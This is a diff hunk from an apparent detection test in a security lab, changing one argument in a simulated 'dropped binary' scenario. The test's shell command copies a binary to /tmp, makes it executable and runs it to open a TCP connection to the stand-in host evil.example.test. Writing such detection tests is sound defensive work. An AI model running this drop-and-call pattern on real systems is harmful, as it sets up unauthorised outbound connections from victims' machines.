@@ -80,7 +80,7 @@ def test_drop_run_call(lab):
     w = d.watch()
     watched(d, w, c, "api.example.test", "198.51.100.1")
     d.activate("dropped")
-    c.sh("cp /bin/call /tmp/upd; chmod 755 /tmp/upd; /tmp/upd tcp evil.example.test 80")
+    c.sh("cp /bin/call /tmp/upd; chmod 755 /tmp/upd; /tmp/upd tcp evil.example.test 80 300")
 
     def story():
         for f in d.findings("dropped"):
